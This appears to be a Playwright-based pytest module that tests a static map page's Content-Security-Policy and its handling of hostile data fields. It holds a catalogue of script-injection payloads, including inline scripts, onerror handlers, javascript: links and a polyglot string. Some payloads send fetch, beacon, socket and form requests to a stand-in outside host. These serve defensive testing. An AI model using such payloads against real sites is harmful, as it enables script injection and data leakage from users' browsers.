"""The page's Content-Security-Policy, tried with what it is to stop; each payload does its work once it is gone."""

from __future__ import annotations

import re
import shutil
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import made_province
import pytest
from atlas_edits import copied
from browser import WAIT_MS, new_page, wait_until_drawn
from click.testing import CliRunner
from hostile_fields import ATTACK, COMMUNE_NAMES, Field, attacked, fields, rename_commune, spoil
from playwright.sync_api import Browser, Page, Route
from visit import FOLLOW

from kcn_map import Atlas
from kcn_map.cli import main

AWAY = "https://elsewhere.invalid/"
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')

#: Before the page's own scripts: who runs says so, and what is refused is kept.
WATCH = """
window.ran = []; window.refused = [];
addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
addEventListener("message", (event) => ran.push(event.data));
"""
#: What a payload may use. It runs later, as a script of the page: the debugger that starts it may do more.
TOOLS = """([name, away]) => {
  refused.length = 0;
  const RUN = `ran.push('${name}')`, TELL = `<script>parent.postMessage('${name}', '*')</` + "script>";
  const done = () => ran.push(name);
  const add = (tag, values) => {
    const made = Object.assign(document.createElement(tag), values);
    document.body.append(made);
    return made;
  };
  const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
  setTimeout(() => { PAYLOAD });
}"""
#: Name → the directive that refuses it and how it is tried from a script of the page. AWAY is an address.
SCRIPTED = {
    "eval": ("script-src", "eval(RUN)"),
    "function": ("script-src", "new Function(RUN)()"),
    "timeout": ("script-src", "setTimeout(RUN)"),
    "script": ("script-src-elem", "add('script', { textContent: RUN })"),
    "script-data": ("script-src-elem", "add('script', { src: 'data:text/javascript,' + RUN })"),
    "script-blob": ("script-src-elem", "add('script', { src: blob(RUN, 'text/javascript') })"),
    "script-away": ("script-src-elem", "add('script', { src: AWAY })"),
    "import-data": ("script-src-elem", "import('data:text/javascript,' + RUN).catch(() => 0)"),
    "import-away": ("script-src-elem", "import(AWAY).catch(() => 0)"),
    "modulepreload": ("script-src-elem", "add('link', { rel: 'modulepreload', href: AWAY })"),
    "handler": ("script-src-attr", "add('p').innerHTML = `<img src='data:,' onerror=\"${RUN}\">`"),
    "link": ("script-src-elem", "add('a', { href: 'javascript:' + RUN + '; void 0' }).click()"),
    "frame-link": ("script-src-elem", "add('iframe', { src: 'javascript:parent.' + RUN })"),
    "style": ("style-src-elem", "if (add('style', { textContent: 'p {}' }).sheet) done()"),
    "style-attribute": ("style-src-attr", "const p = add('p'); p.innerHTML = '<b style=\"top: 0\">'; "
                                          "if (p.firstChild.style.top) done()"),
    "sheet-data": ("style-src-elem", "add('link', { rel: 'stylesheet', href: 'data:text/css,p{}', onload: done })"),
    "sheet-away": ("style-src-elem", "add('link', { rel: 'stylesheet', href: AWAY })"),
    "image": ("img-src", "add('img', { src: AWAY })"),
    "background": ("img-src", "add('p', { textContent: 'x' }).style.backgroundImage = `url(${AWAY})`"),
    "drawn-image": ("img-src", "add('p').innerHTML = `<svg><image href='${AWAY}'/></svg>`"),
    "preload": ("img-src", "add('link', { rel: 'preload', as: 'image', href: AWAY })"),
    "poster": ("img-src", "add('video', { poster: AWAY })"),
    "font": ("font-src", "new FontFace('x', `url(${AWAY})`).load().catch(() => 0)"),
    "audio": ("media-src", "add('audio', { src: AWAY, preload: 'auto' })"),
    "video": ("media-src", "add('video', { src: AWAY, preload: 'auto' })"),
    "fetch": ("connect-src", "fetch(AWAY).catch(() => 0)"),
    "xhr": ("connect-src", "const ask = new XMLHttpRequest(); ask.open('GET', AWAY); ask.send()"),
    "socket": ("connect-src", "new WebSocket(AWAY.replace('https', 'wss'))"),
    "events": ("connect-src", "new EventSource(AWAY).onerror = (event) => event.target.close()"),
    "beacon": ("connect-src", "navigator.sendBeacon(AWAY, 'x')"),
    "ping": ("connect-src", "add('a', { ping: AWAY, href: '#' }).click()"),
    "prefetch": ("default-src", "add('link', { rel: 'prefetch', href: AWAY })"),
    "frame-data": ("frame-src", "add('iframe', { src: 'data:text/html,' + TELL })"),
    "frame-blob": ("frame-src", "add('iframe', { src: blob(TELL, 'text/html') })"),
    "frame-away": ("frame-src", "add('iframe', { src: AWAY })"),
    "object": ("object-src", "add('object', { data: AWAY })"),
    "embed": ("object-src", "add('embed', { src: AWAY })"),
    "worker-blob": ("worker-src", "new Worker(blob('postMessage(0)', 'text/javascript')).onmessage = done"),
    "worker-data": ("worker-src", "new Worker('data:text/javascript,postMessage(0)').onmessage = done"),
    "base": ("base-uri", "add('base', { href: AWAY }); if (document.baseURI.startsWith('https')) done()"),
    "form": ("form-action", "add('form', { action: AWAY, target: 'other' }).submit()"),
}  # fmt: skip
#: The same as text of the file. A frame's own document inherits the policy, and keeps what it refuses to itself.
WRITTEN = {
    "script": ("script-src-elem", "<script>ran.push('script')</script>"),
    "handler": ("script-src-attr", "<img src='data:,' onerror=\"ran.push('handler')\">"),
    "drawn": ("script-src-attr", "<svg onload=\"ran.push('drawn')\"></svg>"),
    "frame": (None, "<iframe srcdoc=\"<script>parent.postMessage('frame', '*')</script>\"></iframe>"),
    "style": ("style-src-elem", "<style>#title { display: none }</style>"),
    "style-attribute": ("style-src-attr", "<p id='styled' style='display: none'></p>"),
    "script-away": ("script-src-elem", f"<script src='{AWAY}script-away'></script>"),
    "sheet-away": ("style-src-elem", f"<link rel='stylesheet' href='{AWAY}sheet-away'>"),
    "image": ("img-src", f"<img src='{AWAY}image'>"),
    "frame-away": ("frame-src", f"<iframe src='{AWAY}frame-away'></iframe>"),
    "object": ("object-src", f"<object data='{AWAY}object'></object>"),
}
STYLED = "() => ['title', 'styled'].filter((id) => getComputedStyle(document.getElementById(id)).display === 'none')"


@dataclass
class Try:
    """A page, and the names of what it has asked the world for."""

    page: Page
    asked: list[str] = field(default_factory=list)

    def done(self, name: str) -> bool:
        return name in self.asked or name in self.page.evaluate("ran")

    def wait_for(self, happened: Callable[[], bool]) -> bool:
        for _ in range(WAIT_MS // 20):
            if happened():
                return True
            self.page.wait_for_timeout(20)
        return False


@pytest.fixture(scope="module")
def sealed(tmp_path_factory: pytest.TempPathFactory) -> str:
    return Atlas.load(made_province.make(tmp_path_factory.mktemp("policy") / "atlas")).html()


@pytest.fixture(scope="module")
def opened(chromium: Browser, sealed: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[..., Try]]:
    """Open the map with a text at its end, with its policy or without; no request reaches anyone."""
    contexts = []

    def open_it(text: str = "", sealed_by_policy: bool = True, until_drawn: bool = True) -> Try:
        html, count = (sealed, 1) if sealed_by_policy else POLICY.subn("", sealed)
        assert count == 1 and html.count("</body>") == 1
        path = tmp_path_factory.mktemp("page") / "map.html"
        path.write_text(html.replace("</body>", f"{text}\n</body>"), encoding="utf-8")
        contexts.append(chromium.new_context())
        tried = Try(contexts[-1].new_page())

        def refuse(route: Route) -> None:
            tried.asked.append(route.request.url.removeprefix(AWAY).rstrip("?"))
            route.abort()

        contexts[-1].route(re.compile("^https?:"), refuse)
        tried.page.on("websocket", lambda socket: tried.asked.append(socket.url.rpartition("/")[2]))
        tried.page.add_init_script(WATCH)
        tried.page.goto(path.as_uri(), wait_until="commit")
        if until_drawn:
            wait_until_drawn(tried.page)
        return tried

    yield open_it
    for context in contexts:
        context.close()


@pytest.fixture(scope="module")
def kept(opened: Callable[..., Try]) -> Try:
    return opened()


@pytest.fixture(scope="module")
def bare(opened: Callable[..., Try]) -> Try:
    return opened(sealed_by_policy=False)


@pytest.mark.parametrize("name", SCRIPTED)
def test_what_a_script_of_the_page_tries_is_refused(name: str, kept: Try, bare: Try) -> None:
    directive, payload = SCRIPTED[name]
    for tried in (kept, bare):
        tried.page.evaluate(TOOLS.replace("PAYLOAD", payload).replace("AWAY", "away"), [name, AWAY + name])
    assert kept.wait_for(lambda: directive in kept.page.evaluate("refused")), kept.page.evaluate("refused")
    assert bare.wait_for(lambda: bare.done(name)), "without the policy it does nothing either"
    assert not kept.done(name)


@pytest.mark.parametrize("sealed_by_policy", [True, False])
def test_what_is_written_into_the_file_is_refused(sealed_by_policy: bool, opened: Callable[..., Try]) -> None:
    tried = opened("\n".join(markup for _, markup in WRITTEN.values()), sealed_by_policy)
    effects = {"style": "title", "style-attribute": "styled"}

    def done() -> set[str]:
        styled = tried.page.evaluate(STYLED)
        return {name for name in WRITTEN if tried.done(name) or effects.get(name) in styled}

    if not sealed_by_policy:
        assert tried.wait_for(lambda: done() == set(WRITTEN)), set(WRITTEN) - done()
        return
    wanted = Counter(directive for directive, _ in WRITTEN.values() if directive)
    assert tried.wait_for(lambda: not wanted - Counter(tried.page.evaluate("refused")))
    assert done() == set()


@pytest.mark.parametrize("sealed_by_policy", [True, False])
def test_a_file_has_no_service_worker(sealed_by_policy: bool, kept: Try, bare: Try) -> None:
    page = (kept if sealed_by_policy else bare).page
    why = page.evaluate("navigator.serviceWorker.register('map.html').then(() => 'registered', String)")
    assert "not supported" in why or "Content Security Policy" in why


def test_a_refresh_leads_away_whatever_the_policy(opened: Callable[..., Try]) -> None:
    """No policy in a page can forbid it, as docs/security.md says: only who alters the file can write one."""
    tried = opened(f"<meta http-equiv='refresh' content='0; url={AWAY}refresh'>", until_drawn=False)
    assert tried.wait_for(lambda: "refresh" in tried.asked)


#: Fields that hold one of a few words or an address: anything else is an error.
BOUND = {
    ("atlas.toml", "area_crs"), ("atlas.toml", "contact"), ("atlas.toml", "measures.palette"),
    ("atlas.toml", "measures.unit"), ("atlas.toml", "totals.unit"), ("sources.csv", "url"), ("totals.csv", "unit"),
}  # fmt: skip
#: The figures that others rest on keep their names; one figure more has another.
ATTRIBUTE = ("observations.csv", "attribute")
#: Fields that the page has no place for, searches in alone, or shows close up.
UNSHOWN = {
    ("atlas.toml", "kinds.area_max_basis_en"), ("atlas.toml", "kinds.area_max_basis_vi"),
    ("atlas.toml", "province.code"),
    ("communes.csv", "other_names"), ("communes.csv", "point_quality"),
    ("communes.geojson", "other_names"), ("communes.geojson", "area_note_vi"), ("communes.geojson", "area_note_en"),
    ("districts.geojson", "other_names"), ("province.geojson", "name_en"), ("province.geojson", "name_vi"),
    ("totals.csv", "note"), ("totals.csv", "note_vi"),
    ("clusters.csv", "status_basis"), ("zones.csv", "status_basis"),
}  # fmt: skip
STATES = (
    "district=148", "lang=en", "level=commune&commune=04795", "site=kcn-luong-son", "site=ccn-tien-tien",
    "site=kcn-mong-hoa", "site=ccn-yen-mong", "lang=en&district=148", "lang=en&site=kcn-luong-son",
    "lang=en&site=kcn-mong-hoa", "lang=en&site=ccn-yen-mong",
    "lang=en&site=ccn-tien-tien&compare=kcn-luong-son,kcn-mong-hoa",
)  # fmt: skip
#: All that a reader may see or hear in a state, also below the window.
TEXTS = """() => {
  document.querySelectorAll(".sheet").forEach((one) => { one.style.contentVisibility = "visible"; });
  document.querySelectorAll("details").forEach((one) => { one.open = true; });
  const told = (one) => one.getAttributeNames().map((name) => one.getAttribute(name));
  return document.body.innerText + [...document.querySelectorAll("*")].flatMap(told).join(" ");
}"""
FOREIGN = "img, iframe, object, embed, form, main style, main script, [onerror], [href^='javascript']"


def test_what_any_field_says_is_text(copy_of_atlas: Path, chromium: Browser, tmp_path: Path) -> None:
    every, seen, said = fields(copy_of_atlas), set(), []
    spoil(copy_of_atlas, attacked, {*BOUND, ATTRIBUTE, *COMMUNE_NAMES})
    rename_commune(copy_of_atlas, "04924", lambda old: old + ATTACK.format("communes.geojson", "name_vi"))
    figure = {"subject": "kcn-luong-son", "attribute": "area_planned_ha"}
    copied("observations.csv", figure, attribute=ATTACK.format(*ATTRIBUTE))(copy_of_atlas)
    path = Atlas.load(copy_of_atlas).save(tmp_path / "map.html")
    context = chromium.new_context(offline=True, reduced_motion="reduce")
    page = new_page(context, path.as_uri(), said)
    page.add_init_script(WATCH)
    page.goto(path.as_uri())
    wait_until_drawn(page)
    for state in STATES:
        page.evaluate(FOLLOW, state)
        text = page.evaluate(TEXTS)
        seen |= {tuple(name.split(" ")) for name in re.findall('«(.+?)»"><img src=x', text)}
        assert "onerror=ran.push(0)></script><script>ran.push(1)</script></style>{{7*7}}${7*7}--> ]]><!--" in text
        assert page.locator(FOREIGN).count() == 0
    ran, refused = page.evaluate("[ran, refused]")
    context.close()
    assert (said, ran, refused) == ([], [], [])
    assert {one for one in every - seen - BOUND - COMMUNE_NAMES if not one[0].startswith("base/")} == UNSHOWN


@pytest.mark.parametrize("place", sorted(BOUND))
def test_a_field_of_few_words_takes_no_other(place: Field, copy_of_atlas: Path, tmp_path: Path) -> None:
    said = {place: "javascript:alert(1)//" if place[1] == "url" else ATTACK.format(*place)}
    spoil(copy_of_atlas, lambda old, field: old + said.get(field, ""))
    assert_refused(copy_of_atlas, tmp_path, {place})


@pytest.mark.parametrize("letter", ["\u202e", "\u200b", "\u0007"])
def test_no_field_takes_a_letter_that_no_one_sees(
    letter: str, atlas_folder: Path, copy_of_atlas: Path, tmp_path: Path
) -> None:
    every = fields(copy_of_atlas)
    settings = {one for one in every if one[0] == "atlas.toml"}
    spoil(copy_of_atlas, lambda old, _: old + letter, kept=settings)
    assert_refused(copy_of_atlas, tmp_path, every - settings, "text-invisible-character")
    for section in sorted({name.partition(".")[0] for _, name in settings}):  # of one kind, a hundred are told
        again = Path(shutil.copytree(atlas_folder, tmp_path / section))
        places = {one for one in settings if one[1].partition(".")[0] == section}
        spoil(again, lambda old, _: old + letter, kept=every - places)
        assert_refused(again, tmp_path, places)


def assert_refused(atlas: Path, folder: Path, places: set[Field], code: str = "") -> None:
    """No page, and findings that name each of the places; in the settings a section has many entries."""
    done = CliRunner().invoke(main, ["build", "--data", str(atlas), "--out", str(folder / "map.html"), "--lang", "en"])
    assert done.exit_code in (1, 2) and not (folder / "map.html").exists()
    found = re.findall(r"^([\w./]+)(?:, row \d+.*)?, ([\w.]+): error ([\w-]+)$", done.output, re.MULTILINE)
    named = {(file, re.sub(r"^(\w+)\.(?:\w+\.)+(\w+)$", r"\1.\2", name)) for file, name, what in found if code in what}
    assert places <= named, places - named
